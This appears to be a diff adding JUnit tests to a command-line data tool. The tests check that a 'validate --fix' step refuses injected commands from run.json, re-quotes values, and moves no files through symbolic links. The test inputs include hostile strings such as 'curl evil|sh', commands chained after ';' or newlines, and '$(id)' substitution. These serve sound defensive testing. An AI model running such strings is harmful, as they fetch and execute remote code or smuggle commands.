@@ -16,6 +16,8 @@ import java.util.stream.Stream;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 import org.splicebeam.pipeline.Main;
 import org.splicebeam.transforms.publish.OutputFolder;
 import org.splicebeam.transforms.publish.Owner;
@@ -160,6 +162,79 @@ class ValidateCommandTest {
     }
     assertThat(left, is(before));
     assertThat(run(), is(2));
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "curl evil|sh",
+        "splicebeam build --output=a; curl evil|sh",
+        "splicebeam build --output=a\ncurl evil|sh",
+        "splicebeam build '--gtf=a\n' --output=a"
+      })
+  void aCommandOfOthersIsNotHandedOn(String command) throws IOException {
+    Files.writeString(
+        folder.resolve("run.json"),
+        new ObjectMapper().createObjectNode().put("command", command).toString());
+    damage(1);
+    assertThat(run("--fix"), is(1));
+    assertThat(
+        out.toString().lines().reduce((a, b) -> b).orElseThrow(),
+        is(
+            "build the broken parts again with the command of the build (run.json has none that"
+                + " splicebeam wrote)"));
+    assertThat(run(), is(2));
+    assertThat(
+        err.toString(),
+        is(
+            "splicebeam validate: %s holds an unfinished build (3 parts so far): give the command of"
+                    .formatted(folder)
+                + " the build again to resume it\n"));
+  }
+
+  @Test
+  void valuesAreQuotedAnew() throws IOException {
+    Files.writeString(
+        folder.resolve("run.json"),
+        "{\"command\": \"splicebeam build '--gtf=$(id);it'\\\\''s' --output=a --flinkMaster=evil\"}");
+    damage(1);
+    run("--fix");
+    assertThat(
+        out.toString().lines().reduce((a, b) -> b).orElseThrow(),
+        is(
+            "build the broken parts again with splicebeam build '--gtf=$(id);it'\\''s' --output="
+                + folder
+                + " --flinkMaster=..."));
+  }
+
+  /** Neither into the folder that a link leads to nor out of it. */
+  @Test
+  void aFixMovesNothingThroughALink() throws IOException {
+    Path elsewhere = Files.createDirectories(folder.resolve("elsewhere"));
+    damage(1);
+    Files.createSymbolicLink(folder.resolve("broken"), elsewhere);
+    TreeMap<String, Long> before = files();
+    assertThat(run("--fix"), is(2));
+    assertThat(
+        err.toString(),
+        is(
+            "splicebeam validate: broken in %s is to be a folder, and it is a link, and what it leads"
+                    .formatted(folder)
+                + " to is not of the data set: move it away\n"));
+    assertThat(files(), is(before));
+    Files.delete(folder.resolve("broken"));
+    Path master = folder.resolve("master");
+    Files.move(master, elsewhere.resolve("parts"));
+    Files.createSymbolicLink(master, elsewhere.resolve("parts"));
+    Files.createSymbolicLink(folder.resolve("all.parquet"), elsewhere);
+    assertThat(run("--fix"), is(1));
+    TreeMap<String, Long> left = files();
+    for (int part = 0; part < 4; part++) {
+      assertThat(left.containsKey("elsewhere/parts/part-0000%d.parquet".formatted(part)), is(true));
+    }
+    assertThat(Files.isSymbolicLink(folder.resolve("broken/master.1")), is(true));
+    assertThat(Files.isSymbolicLink(folder.resolve("broken/all.parquet.1")), is(true));
+    assertThat(Files.exists(master), is(false));
   }
 
   @Test
